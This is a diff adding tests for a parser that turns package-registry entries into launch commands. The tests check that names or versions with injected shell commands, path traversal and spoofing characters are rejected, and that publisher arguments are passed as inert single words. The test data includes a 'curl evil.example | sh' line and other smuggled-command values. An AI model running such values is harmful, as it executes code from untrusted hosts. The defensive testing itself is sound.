@@ -85,4 +85,53 @@ describe("the parser of a registry's answers", () => {
       }),
     );
   });
+
+  const choiceOf = (part: object) => {
+    const packages = [{ registryType: "npm", identifier: "pkg", transport: { type: "stdio" }, ...part }];
+    const [choice] = toChoices(parseServer(registryEntry({ name: "com.example/x", packages }), "answer"));
+    return choice!;
+  };
+
+  it.each(
+    ["npm", "pypi", "nuget", "oci"].flatMap((registryType) =>
+      [
+        ...[
+          "-c",
+          "--call=id",
+          "--package",
+          "-v/:/host",
+          "a b",
+          "a;id",
+          "a|id",
+          "$(id)",
+          "`id`",
+          "a\nb",
+          "a\0b",
+          "../x",
+          "/bin/sh",
+        ],
+        ...["./x", "~/x", "git+https://evil.example/x", "https://evil.example/x.tgz", "a@npm:b", "a\u202eb", "а"],
+      ].map((text) => [registryType, text] as const),
+    ),
+  )("offers no command for a package of %s whose name or version is %j", (registryType, text) => {
+    for (const part of [{ identifier: text }, { version: text }, { registryBaseUrl: text, identifier: text }]) {
+      const choice = choiceOf({ registryType, ...part });
+      expect(isSupported(choice), JSON.stringify(part)).toBe(false);
+    }
+  });
+
+  it("takes the command from its own list, and puts each argument of the publisher into one word", () => {
+    const hostile = ["-c", "curl evil.example | sh", "--registry=http://evil.example", "a\nb", "\u202e"];
+    for (const runtimeHint of ["sh", "/bin/sh", "npx -c id", "node", "docker", "-c"]) {
+      const choice = choiceOf({
+        runtimeHint,
+        version: "1.0.0",
+        runtimeArguments: hostile.map((value) => ({ type: "positional", value })),
+        packageArguments: hostile.map((value) => ({ type: "positional", value })),
+      });
+      if (!isSupported(choice)) throw new Error("the package is not supported");
+      const { entry } = fillChoice(choice, "x");
+      expect(entry).toEqual({ command: "npx", args: ["-y", ...hostile, "pkg@1.0.0", ...hostile] });
+    }
+  });
 });
